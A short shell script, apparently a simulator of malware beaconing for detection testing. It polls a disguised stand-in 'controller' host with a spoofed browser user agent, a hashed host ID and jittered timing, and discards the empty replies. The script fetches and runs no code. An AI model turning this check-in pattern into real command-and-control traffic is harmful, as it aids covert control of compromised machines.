#!/bin/sh
# beacon.sh PERIOD SECONDS - asks its controller for orders every PERIOD seconds, a fifth more or less, and gets none.
end=$(($(date +%s) + $2))
id=$(hostname | md5sum | cut -c 1-8)
while [ "$(date +%s)" -lt "$end" ]; do
  wget -q -O /dev/null -U 'Mozilla/5.0 (X11; Linux x86_64)' "http://cdn-status.example.org:8080/bytes/96?id=$id"
  usleep $(($1 * 800000 + RANDOM % 1000 * $1 * 400))
done
